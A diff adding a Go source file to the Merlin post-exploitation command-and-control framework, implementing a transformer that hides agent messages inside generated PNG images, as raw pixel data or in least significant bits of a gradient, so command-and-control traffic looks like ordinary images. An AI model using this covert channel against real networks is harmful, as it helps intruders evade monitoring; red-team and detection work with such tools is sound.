@@ -0,0 +1,246 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+// Package png hides Agent messages inside generated PNG images so that any transport carrying them ships what looks
+// like an image
+package png
+
+import (
+	// Standard
+	"bytes"
+	"crypto/rand"
+	"encoding/binary"
+	"fmt"
+	"image"
+	"image/color"
+	"image/png"
+	"math"
+
+	// Internal
+	transformer "github.com/Ne0nd0g/merlin-agent/v2/transformers"
+)
+
+const (
+	// RAW stores the data directly as the image's RGB pixel values, producing an image that looks like noise
+	RAW = 0
+	// LSB stores the data in the two least significant bits of each color channel of a generated gradient image
+	LSB = 1
+)
+
+// headerSize is the number of bytes used to store the length of the hidden data in front of it
+const headerSize = 4
+
+// MaxSize is the largest amount of data, in bytes, that will be hidden in or extracted from an image
+const MaxSize = 64 << 20
+
+// Coder is the structure that implements the Transformer interface for PNG steganography
+type Coder struct {
+	concrete int
+}
+
+func init() {
+	transformer.Register("png", func() transformer.Transformer { return NewEncoder(RAW) })
+	transformer.Register("png-raw", func() transformer.Transformer { return NewEncoder(RAW) })
+	transformer.Register("png-lsb", func() transformer.Transformer { return NewEncoder(LSB) })
+}
+
+// NewEncoder is a factory that returns a structure that implements the Transformer interface
+func NewEncoder(concrete int) *Coder {
+	return &Coder{concrete: concrete}
+}
+
+// Construct takes in data, hides it inside a generated PNG image, and returns the encoded image as bytes
+func (c *Coder) Construct(data any, key []byte) ([]byte, error) {
+	var payload []byte
+	switch data.(type) {
+	case []uint8:
+		payload = data.([]byte)
+	case string:
+		payload = []byte(data.(string))
+	default:
+		return nil, fmt.Errorf("transformers/encoders/png.Construct(): unhandled data type for Construct(): %T", data)
+	}
+	if len(payload) > MaxSize {
+		return nil, fmt.Errorf("transformers/encoders/png.Construct(): the data size %d is larger than the %d byte maximum", len(payload), MaxSize)
+	}
+
+	// Prepend the length so the padding at the end of the image can be ignored
+	hidden := make([]byte, headerSize, headerSize+len(payload))
+	binary.BigEndian.PutUint32(hidden, uint32(len(payload)))
+	hidden = append(hidden, payload...)
+
+	var img *image.RGBA
+	var err error
+	switch c.concrete {
+	case RAW:
+		img, err = hideRaw(hidden)
+	case LSB:
+		img, err = hideLSB(hidden)
+	default:
+		return nil, fmt.Errorf("transformers/encoders/png.Construct(): unhandled concrete type %d", c.concrete)
+	}
+	if err != nil {
+		return nil, fmt.Errorf("transformers/encoders/png.Construct(): %s", err)
+	}
+
+	var buf bytes.Buffer
+	err = png.Encode(&buf, img)
+	if err != nil {
+		return nil, fmt.Errorf("transformers/encoders/png.Construct(): there was an error encoding the PNG image: %s", err)
+	}
+	return buf.Bytes(), nil
+}
+
+// Deconstruct takes in a PNG image, extracts the data hidden inside it, and returns the data as bytes
+func (c *Coder) Deconstruct(data, key []byte) (any, error) {
+	img, err := png.Decode(bytes.NewReader(data))
+	if err != nil {
+		return nil, fmt.Errorf("transformers/encoders/png.Deconstruct(): there was an error decoding the PNG image: %s", err)
+	}
+	pixels := rgb(img)
+
+	var hidden []byte
+	switch c.concrete {
+	case RAW:
+		hidden = pixels
+	case LSB:
+		hidden = extractLSB(pixels)
+	default:
+		return nil, fmt.Errorf("transformers/encoders/png.Deconstruct(): unhandled concrete type %d", c.concrete)
+	}
+
+	if len(hidden) < headerSize {
+		return nil, fmt.Errorf("transformers/encoders/png.Deconstruct(): the image is too small to contain hidden data")
+	}
+	length := binary.BigEndian.Uint32(hidden[:headerSize])
+	if length > MaxSize || int(length) > len(hidden)-headerSize {
+		return nil, fmt.Errorf("transformers/encoders/png.Deconstruct(): the hidden data length %d is larger than the image can hold", length)
+	}
+	return hidden[headerSize : headerSize+int(length)], nil
+}
+
+// hideRaw returns an opaque image whose RGB values are the data followed by random padding to fill the last row
+func hideRaw(data []byte) (*image.RGBA, error) {
+	img := newImage(int(math.Ceil(float64(len(data)) / 3)))
+	padding := make([]byte, len(img.Pix)/4*3-len(data))
+	_, err := rand.Read(padding)
+	if err != nil {
+		return nil, fmt.Errorf("there was an error generating random padding: %s", err)
+	}
+	data = append(data, padding...)
+	for i := 0; i*3 < len(data); i++ {
+		copy(img.Pix[i*4:i*4+3], data[i*3:i*3+3])
+	}
+	return img, nil
+}
+
+// hideLSB returns an opaque gradient image, starting from a random color, whose RGB values hold two bits of the data in
+// their least significant bits
+func hideLSB(data []byte) (*image.RGBA, error) {
+	// Each byte takes four color channels, two bits each
+	img := newImage(int(math.Ceil(float64(len(data)*4) / 3)))
+	base := make([]byte, 3)
+	_, err := rand.Read(base)
+	if err != nil {
+		return nil, fmt.Errorf("there was an error generating the image colors: %s", err)
+	}
+	width := img.Rect.Dx()
+	height := img.Rect.Dy()
+	var channel int
+	for y := 0; y < height; y++ {
+		for x := 0; x < width; x++ {
+			offset := img.PixOffset(x, y)
+			cover := [3]uint8{
+				base[0] + uint8(x*255/width),
+				base[1] + uint8(y*255/height),
+				base[2] + uint8((x+y)*127/(width+height)),
+			}
+			for i := 0; i < 3; i++ {
+				var bits uint8
+				if channel/4 < len(data) {
+					bits = data[channel/4] >> (6 - 2*(channel%4)) & 0x03
+				}
+				img.Pix[offset+i] = cover[i]&0xFC | bits
+				channel++
+			}
+			img.Pix[offset+3] = 0xFF
+		}
+	}
+	return img, nil
+}
+
+// extractLSB rebuilds the data from the two least significant bits of every RGB value
+func extractLSB(pixels []byte) []byte {
+	data := make([]byte, len(pixels)/4)
+	for i := range data {
+		for j := 0; j < 4; j++ {
+			data[i] = data[i]<<2 | pixels[i*4+j]&0x03
+		}
+	}
+	return data
+}
+
+// newImage returns an opaque image with at least the number of pixels whose width and height are as close as possible
+func newImage(pixels int) *image.RGBA {
+	if pixels < 1 {
+		pixels = 1
+	}
+	width := int(math.Ceil(math.Sqrt(float64(pixels))))
+	height := int(math.Ceil(float64(pixels) / float64(width)))
+	img := image.NewRGBA(image.Rect(0, 0, width, height))
+	for i := 3; i < len(img.Pix); i += 4 {
+		img.Pix[i] = 0xFF
+	}
+	return img
+}
+
+// rgb returns the RGB values of every pixel in the image, in order, without the alpha channel
+func rgb(img image.Image) []byte {
+	bounds := img.Bounds()
+	pixels := make([]byte, 0, bounds.Dx()*bounds.Dy()*3)
+	if rgba, ok := img.(*image.RGBA); ok {
+		for y := bounds.Min.Y; y < bounds.Max.Y; y++ {
+			row := rgba.Pix[rgba.PixOffset(bounds.Min.X, y):rgba.PixOffset(bounds.Max.X, y)]
+			for i := 0; i < len(row); i += 4 {
+				pixels = append(pixels, row[i:i+3]...)
+			}
+		}
+		return pixels
+	}
+	for y := bounds.Min.Y; y < bounds.Max.Y; y++ {
+		for x := bounds.Min.X; x < bounds.Max.X; x++ {
+			c := color.NRGBAModel.Convert(img.At(x, y)).(color.NRGBA)
+			pixels = append(pixels, c.R, c.G, c.B)
+		}
+	}
+	return pixels
+}
+
+// String converts the PNG encode/decode constant to a string
+func (c *Coder) String() string {
+	switch c.concrete {
+	case RAW:
+		return "png-raw"
+	case LSB:
+		return "png-lsb"
+	default:
+		return fmt.Sprintf("unknown png transform %d", c.concrete)
+	}
+}